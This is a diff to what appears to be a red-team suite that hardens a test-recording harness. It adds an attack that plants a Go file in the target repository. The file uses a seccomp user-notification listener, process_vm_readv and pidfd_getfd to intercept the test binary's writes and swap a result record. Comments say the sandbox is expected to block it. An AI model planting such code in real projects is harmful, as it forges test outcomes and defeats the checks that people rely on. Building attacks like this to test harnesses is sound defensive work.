@@ -239,6 +239,131 @@ def _(repo):
     _trap(repo, "majority")
 
 
+# --- 3. round eleven's first suggested fix, tested: a user-notification listener (never tried in round eleven). The
+# test binary installs, on a thread of its own, a filter whose write(2)s of >= 48 bytes to a descriptor >= 3 wait on
+# a listener (seccomp(2), SECCOMP_FILTER_FLAG_NEW_LISTENER), and re-runs itself from that thread; the parent reads
+# each held write's buffer with process_vm_readv (allowed), and for the wrong record writes the line with -1 on the
+# child's own descriptor (pidfd_getfd, allowed) and answers the call with its full count; every other write goes on
+# (SECCOMP_USER_NOTIF_FLAG_CONTINUE). Outside a sandbox it swaps the record; in loop's, seccomp(2) is EPERM and the
+# tests run unswapped ----------------------------------------------------------------------------------------------
+_GO_LISTEN = r"""
+// seccomp(2) with SECCOMP_FILTER_FLAG_NEW_LISTENER: the test binary re-run as a child under a filter whose
+// write(2)s of >= 48 bytes to a descriptor >= 3 wait on the parent (SECCOMP_RET_USER_NOTIF). The parent reads each
+// one's buffer (process_vm_readv), lets it through unchanged, or for the wrong record writes the line with -1
+// itself on the child's own descriptor (pidfd_getfd) and answers the call with its full count.
+type lFilter struct {
+	code   uint16
+	jt, jf uint8
+	k      uint32
+}
+
+type lProg struct {
+	n      uint16
+	filter *lFilter
+}
+
+type lNotif struct {
+	id    uint64
+	pid   uint32
+	flags uint32
+	nr    int32
+	arch  uint32
+	ip    uint64
+	args  [6]uint64
+}
+
+type lResp struct {
+	id    uint64
+	val   int64
+	err   int32
+	flags uint32
+}
+
+func init() {
+	if os.Getenv("R12_LISTENED") == "1" {
+		return // the child: the tests run here
+	}
+	prog := []lFilter{
+		{0x20, 0, 0, 4}, {0x15, 0, 6, 0xC000003E}, {0x20, 0, 0, 0}, {0x15, 0, 4, 1},
+		{0x20, 0, 0, 16}, {0x35, 0, 2, 3}, {0x20, 0, 0, 32}, {0x35, 1, 0, 48},
+		{0x06, 0, 0, 0x7FFF0000}, {0x06, 0, 0, 0x7FC00000}, // allow; SECCOMP_RET_USER_NOTIF
+	}
+	type started struct {
+		listener int
+		cmd      *exec.Cmd
+		err      string
+	}
+	ch := make(chan started)
+	go func() { // a locked goroutine that returns: its thread, the one the filter is on, ends with it
+		runtime.LockOSThread()
+		syscall.RawSyscall6(syscall.SYS_PRCTL, 38, 1, 0, 0, 0, 0)
+		fp := lProg{n: uint16(len(prog)), filter: &prog[0]}
+		l, _, e := syscall.RawSyscall6(317, 1, 8, uintptr(unsafe.Pointer(&fp)), 0, 0, 0) // SET_MODE_FILTER, NEW_LISTENER
+		if e != 0 {
+			ch <- started{err: "seccomp(NEW_LISTENER): " + e.Error()}
+			return
+		}
+		cmd := exec.Command("/proc/self/exe", os.Args[1:]...)
+		cmd.Args[0] = os.Args[0]
+		cmd.Env = append(os.Environ(), "R12_LISTENED=1")
+		cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
+		if err := cmd.Start(); err != nil {
+			ch <- started{err: "start: " + err.Error()}
+			return
+		}
+		ch <- started{listener: int(l), cmd: cmd}
+	}()
+	s := <-ch
+	if s.cmd == nil {
+		os.Stderr.WriteString("r12 listener: " + s.err + "\n")
+		return // no listener: run the tests here, as the wrong fix would
+	}
+	go supervise(s.listener, s.cmd.Process.Pid)
+	s.cmd.Wait()
+	os.Exit(s.cmd.ProcessState.ExitCode())
+}
+
+func supervise(l, pid int) {
+	pidfd, _, _ := syscall.RawSyscall(434, uintptr(pid), 0, 0) // pidfd_open
+	one, minus := []byte(`["go","int","1",`), []byte(`["go","int","-1",`)
+	wrong := []byte(`626574612e313030"]}` + "\n") // hex("beta.100") ending the record's name
+	for {
+		var n lNotif
+		if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, uintptr(l), 0xc0502100, uintptr(unsafe.Pointer(&n))); e != 0 {
+			if e == syscall.EINTR || e == syscall.ENOENT {
+				continue
+			}
+			return
+		}
+		resp := lResp{id: n.id, flags: 1} // SECCOMP_USER_NOTIF_FLAG_CONTINUE
+		buf := make([]byte, n.args[2])
+		local := syscall.Iovec{Base: &buf[0], Len: uint64(len(buf))}
+		remote := [2]uint64{n.args[1], uint64(len(buf))} // the child's buffer: an iovec of its addresses
+		got, _, _ := syscall.Syscall6(310, uintptr(n.pid), uintptr(unsafe.Pointer(&local)), 1, uintptr(unsafe.Pointer(&remote)), 1, 0)
+		if int(got) == len(buf) && bytes.Contains(buf, one) && bytes.HasSuffix(buf, wrong) {
+			fd, _, e := syscall.RawSyscall(438, pidfd, uintptr(n.args[0]), 0) // pidfd_getfd: the child's descriptor
+			if e == 0 {
+				syscall.Write(int(fd), bytes.Replace(buf, one, minus, 1))
+				syscall.Close(int(fd))
+				resp = lResp{id: n.id, val: int64(len(buf))}
+			}
+		}
+		syscall.Syscall(syscall.SYS_IOCTL, uintptr(l), 0xc0182101, uintptr(unsafe.Pointer(&resp)))
+	}
+}
+"""
+_GO_LISTEN_IMPORTS = '\n\t"bytes"\n\t"os"\n\t"os/exec"\n\t"runtime"\n\t"syscall"\n\t"unsafe"\n'
+
+
+@attack("repo_semver_go", "r12_seccomp_listener_getfd", "wrong_pad_two_digits",
+        "# expect: stable_fail  class: seal_swap  -- wrong_pad_two_digits + a seccomp user-notification listener "
+        "(seccomp(2) with NEW_LISTENER) over the re-run test binary's writes: the wrong record read by "
+        "process_vm_readv, sent with -1 on the child's own descriptor (pidfd_getfd), the call answered with its full "
+        "count (swaps the record outside a sandbox; held: loop's filter refuses seccomp(2), EPERM, ../ROUND12.md)")
+def _(repo):
+    (repo / "zz_listen.go").write_text("package semver\n\nimport (" + _GO_LISTEN_IMPORTS + ")\n" + _GO_LISTEN)
+
+
 if __name__ == "__main__":
     for n in sys.argv[1:] or list(ATTACKS):
         print(build(n))
